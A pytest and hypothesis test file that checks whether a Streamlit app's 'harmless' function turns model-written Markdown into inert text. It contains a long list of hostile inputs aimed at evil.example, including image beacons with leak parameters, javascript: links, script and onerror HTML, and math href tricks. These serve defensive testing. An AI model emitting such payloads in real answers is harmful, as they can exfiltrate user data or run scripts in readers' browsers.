"""What a model wrote never becomes a link, an image, math or a colour; ordinary Markdown stays what it is."""

from __future__ import annotations

import re
import textwrap
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.ui import answer
from app.ui.answer import FOLD_AFTER, _json_in, harmless

RENDERERS = {
    "commonmark": MarkdownIt("commonmark", {"html": False}),
    "tables": MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]),
    "html": MarkdownIt("commonmark", {"html": True}),
    "autolinks": MarkdownIt("gfm-like", {"html": False}),
}
# Streamlit makes links of www. and schemes only.
RENDERERS["autolinks"].linkify.set({"fuzzy_link": False})
RENDERERS["autolinks"].linkify.add("//", None)

# Tells escaped characters (text_special) from others (text).
SYNTAX = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]).disable("text_join")

# The two patterns of mdast-util-gfm-autolink-literal, which Streamlit uses: they look at finished text.
STREAMLIT_AUTOLINK = re.compile(
    r"(?:https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.IGNORECASE | re.ASCII
)
STREAMLIT_PICTURE = re.compile(r":(?:material[/_]\w+|streamlit):")

HOSTILE = {
    "image": "![alt](http://evil.example/a.png)",
    "image without alt": "![](http://evil.example/a.png?leak=1)",
    "image with title": '![a](http://evil.example/a.png "title")',
    "image by reference": "![a][r]\n\n[r]: http://evil.example/a.png",
    "image by collapsed reference": "![a][]\n\n[a]: http://evil.example/a.png",
    "image by shortcut": "![a]\n\n[a]: http://evil.example/a.png",
    "image in a link": "[![a](http://evil.example/a.png)](http://evil.example)",
    "image over two lines": "![a\nb](http://evil.example/a.png)",
    "image with brackets": "![a[b]c](http://evil.example/a.png)",
    "image with spaces": "![a](<http://evil.example/a b.png>)",
    "data image": "![a](data:image/png;base64,AAAA)",
    "link": "[a](http://evil.example)",
    "relative link": "[a](/session/logout)",
    "script link": "[a](javascript:alert(1))",
    "link with parentheses": "[a](http://evil.example/x_(y))",
    "link over two lines": "[a\nb](http://evil.example\n'title')",
    "link by reference": "[a][r]\n\n[r]: http://evil.example",
    "link by collapsed reference": "[a][]\n\n[a]: http://evil.example",
    "link by shortcut": "[a]\n\n[a]: http://evil.example",
    "definition first": "[a]: <http://evil.example> 'title'\n[a]",
    "definition in a quote": "> [a]: http://evil.example\n\n[a]",
    "definition after a title line": "[a]:\nhttp://evil.example\n\n[a]",
    "footnote": "a[^1]\n\n[^1]: http://evil.example",
    "autolink": "<http://evil.example>",
    "mail autolink": "<alice@evil.example>",
    "odd autolink": "<x-app:run>",
    "bare address": "see http://evil.example/a_b_c?d=1.",
    "bare address in capitals": "see HTTPS://evil.example.",
    "www": "see www.evil.example",
    "mail": "write to alice@evil.example",
    "escaped address": r"see https\://evil.example, www\.evil.example and alice\@evil.example",
    "address by entity": "see https&#58;//evil.example and www&period;evil.example",
    "address after a backslash": r"\https://evil.example",
    "address in bold": "**http://evil.example** and *www.evil.example*",
    "address in a heading": "# http://evil.example",
    "address beside code": "`a`http://evil.example`b`",
    "address after an open backtick": "`http://evil.example",
    "address between uneven backticks": "``a` http://evil.example",
    "two addresses": "http://evil.example<http://evil.example>http://evil.example",
    "HTML": '<a href="http://evil.example">x</a><img src="http://evil.example/a.png">',
    "HTML block": "<div>\n<img src=x onerror=alert(1)>\n</div>\n\n<script>alert(1)</script>",
    "HTML comment hides a fence": "<!--\n```\n-->\n\n[a](http://evil.example)\n\n```\n",
    "HTML block opens a fence": "<div>\n```\n\n[a](http://evil.example)\n\n```\n[b](http://evil.example)\n```\n",
    "fence that ends": "```\nx\n```\n[a](http://evil.example)",
    "fence of another kind": "~~~\n```\n~~~\n[a](http://evil.example)\n```",
    "fence that is none": "``` a`b\n[a](http://evil.example)\n```",
    "fence in a list": "- ```\n  x\n\n[a](http://evil.example)",
    "fence in a quote": "> ```\n[a](http://evil.example)",
    "all is indented": "    [a](http://evil.example)\n    ![a](http://evil.example/a.png)",
    "indented after a space": "\u3000\n    [a](http://evil.example)",
    "code span over a cell": "| `a | [a](http://evil.example)` |\n|---|---|\n| `b | ![a](http://evil.example)` |",
    "code span over paragraphs": "`a\n\n[a](http://evil.example)`",
    "code span with HTML in its second line": "`a\n<!--`\n\n```\n-->\n[a](http://evil.example)\n```",
    "escaped backtick": r"\`[a](http://evil.example)`",
    "address in a cell": "| a | b |\n|---|---|\n| http://evil.example|www.evil.example |",
    "deep quote": "> " * 30 + "[a](http://evil.example) `x` http://evil.example",
    "deep list": "- " * 30 + "![a](http://evil.example)",
    "deep fence": "> " * 30 + "```\n" + "> " * 30 + "http://evil.example",
    "colour": ":red[danger] :blue-background[x] :small[x] :violet-badge[x]",
    "colour with attributes": ":color[x]{foreground=red}",
    "directive block": ":::note\n[a](http://evil.example)\n:::",
    "icon": ":material/check_circle: :material_home: :streamlit:",
    "math": "costs $5 and $6, $x^2$ and $$\\href{http://evil.example}{x}$$",
    "math block": "$$\nx\n$$",
    "line ends": "a\r\n[b](http://evil.example)\r![c](http://evil.example)",
}


class Elements(HTMLParser):
    """The elements of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)


def as_streamlit_cleans(text: str) -> str:
    return textwrap.dedent(text).strip()


def finished_text(tokens: list[Token]) -> list[str]:
    """Return the text outside code, as a renderer sees it after escapes and entities."""
    found: list[str] = []
    for token in tokens:
        if token.type == "inline":
            piece = ""
            for child in token.children or []:
                if child.type in ("text", "text_special"):
                    piece += child.content
                else:
                    found.append(piece)
                    piece = ""
            found.append(piece)
    return found


def assert_harmless(text: str) -> None:
    shown = as_streamlit_cleans(harmless(text))
    for name, renderer in RENDERERS.items():
        elements = Elements(renderer.render(shown)).names
        assert not elements & {"a", "img", "script", "iframe", "div"}, (name, shown)
    for piece in finished_text(RENDERERS["tables"].parse(shown)):
        assert not STREAMLIT_AUTOLINK.search(piece), shown
        assert not STREAMLIT_PICTURE.search(piece), shown
    # Directives, math and references are syntax: a backslash switches them off.
    for token in SYNTAX.parse(shown):
        unescaped = "".join(c.content if c.type == "text" else "\0" for c in token.children or [])
        assert not {"[", "]", "$", "<"} & set(unescaped), shown
        assert not re.search(r":[a-z_:]", unescaped), shown


def code_in(text: str) -> list[str]:
    found = []
    for token in RENDERERS["tables"].parse(text):
        if token.type in ("fence", "code_block"):
            found.append(token.content)
        found += [child.content for child in token.children or [] if child.type == "code_inline"]
    return [code for code in found if code.strip()]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_is_only_text(text: str) -> None:
    assert_harmless(text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "1. {}", "# {}", "**{}**", "x\n\n{}\n\ny", "`{}", "{}`", "```\n{}"]
)
def test_hostile_markdown_is_only_text_wherever_it_stands(text: str, around: str) -> None:
    assert_harmless(around.format(text))


PIECES = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "]: ",
            "<",
            ">",
            "`",
            "``",
            "```",
            "~~~",
            "\\",
            "|",
            "$",
            "$$",
            ":",
            ":::",
        ),
        *("\n", "\n\n", "\r\n", "\t", " ", "    ", "> ", "- ", "1. ", "# ", "---\n", "|-|-|\n", "\u3000", "\x0c"),
        *("&#58;", "&", "*", "_", "~~", "!", "^", '"', "'", "@", "x", "é", ":red[", ":material/home:"),
        *("http://e.de", "https://", "www.e.de", "a@b.de", "mailto:", "[r]: http://e.de\n", "<div>", "<!--", "-->"),
    ]
)


@settings(max_examples=600, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join))
@example("`[a](x)\\`")
@example("|a|\n|-|\n|`b\\|[a](x)`|")
def test_no_mixture_gets_through(text: str) -> None:
    assert_harmless(text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_no_text_gets_through(text: str) -> None:
    assert_harmless(text)


ORDINARY = {
    "headings": ("# One\n\n## Two", {"h1", "h2"}),
    "underlined heading": ("One\n===", {"h1"}),
    "bullets": ("- a\n- b\n  - c", {"ul", "li"}),
    "numbers": ("1. a\n2. b", {"ol", "li"}),
    "bold and italic": ("**a** and *b* and __c__", {"strong", "em"}),
    "struck": ("~~a~~", {"s"}),
    "quote": ("> a", {"blockquote"}),
    "table": ("| a | b |\n|:--|--:|\n| `c` | **d** |", {"table", "td", "code", "strong"}),
    "rule": ("a\n\n---\n\nb", {"hr"}),
    "fence": ("```python\nx = 1\n```", {"pre", "code"}),
    "code span": ("use `x` here", {"code"}),
    "bold link": ("[**a**](http://e.de)", {"strong", "code"}),
}


@pytest.mark.parametrize(("text", "elements"), ORDINARY.values(), ids=ORDINARY)
def test_ordinary_markdown_survives(text: str, elements: set[str]) -> None:
    assert elements <= Elements(RENDERERS["tables"].render(harmless(text))).names


@pytest.mark.parametrize(
    "code",
    [
        "curl -H 'Authorization: Bearer $KEY' https://api.example.com | jq '.a[0]'",
        "[a](http://e.de) ![i](http://e.de/i.png) <b> &amp; a@b.de",
        "std::vector<int> x; // $5 \\n :red[x]",
    ],
)
@pytest.mark.parametrize(
    "frame", ["```sh\n{}\n```", "~~~\n{}\n~~~", "x `{}` y", "- a\n\n  ```\n  {}\n  ```", "x\n\n    {}"]
)
def test_code_is_shown_unchanged(code: str, frame: str) -> None:
    text = frame.format(code)
    assert harmless(text) == text
    assert [found.strip() for found in code_in(harmless(text))] == [code]


def test_a_dollar_and_a_time_read_as_written() -> None:
    text = "At 12:30 it costs $5 to $10 (a < b & c > d, std::map, x:y)."
    shown = RENDERERS["tables"].renderInline(harmless(text))
    assert shown == "At 12:30 it costs $5 to $10 (a &lt; b &amp; c &gt; d, std::map, x:y)."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[docs](https://e.de/a_(b))", "docs (`https://e.de/a_(b)`)"),
        ("![a cat](https://e.de/c.png)", "(image: a cat)"),
        ("![](https://e.de/c.png)", "(image: without a name)"),
        ("See https://e.de/a?b=1&c=2.", "See `https://e.de/a?b=1&c=2`."),
        ("Mail a@b.de!", "Mail `a@b.de`!"),
        ("`a`https://e.de", "`a` `https://e.de`"),
    ],
)
def test_addresses_are_shown_but_not_live(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "text",
    [
        "a" * 50_000,
        "[a](" + "x" * 50_000,
        "`" * 50_000,
        "[" * 50_000,
        "> " * 20_000,
        "a@" * 30_000,
        "https://a*" * 8_000,
        " ".join("`" * n for n in range(1, 300)),
    ],
    ids=range(8),
)
def test_long_nonsense_stays_harmless(text: str) -> None:
    shown = harmless(text)
    assert not {"a", "img"} & Elements(RENDERERS["tables"].render(shown)).names
    assert len(shown) >= len(text.strip())  # nothing was lost


# --- JSON ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "document"),
    [
        ('{"team": "Billing"}', {"team": "Billing"}),
        ("[1, 2]", [1, 2]),
        ('```json\n{"a": [true, null]}\n```', {"a": [True, None]}),
        ("```\n[]\n```", []),
        ('  {"a": 1}  \n', {"a": 1}),
    ],
)
def test_json_is_recognised(text: str, document: object) -> None:
    assert _json_in(text) == document


@pytest.mark.parametrize(
    "text",
    ["", "42", "null", '"text"', "{not json}", '{"a": 1} and more', "[link](x)", "Billing - twice", "[" * 100_000],
)
def test_other_text_is_no_json(text: str) -> None:
    assert _json_in(text) is None


def test_a_cut_answer_is_disarmed_after_the_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    drawn: list[str] = []
    monkeypatch.setattr("app.ui.answer.st.markdown", drawn.append)
    monkeypatch.setattr("app.ui.answer.st.expander", lambda _: pytest.MonkeyPatch.context())
    monkeypatch.setattr("app.ui.answer.st.text", lambda _: None)
    answer.draw("a" * (FOLD_AFTER - 12) + " http://evil.example/long")
    (shown,) = drawn
    assert "evil" in shown or "http" in shown
    assert not STREAMLIT_AUTOLINK.search("".join(finished_text(RENDERERS["tables"].parse(shown))))
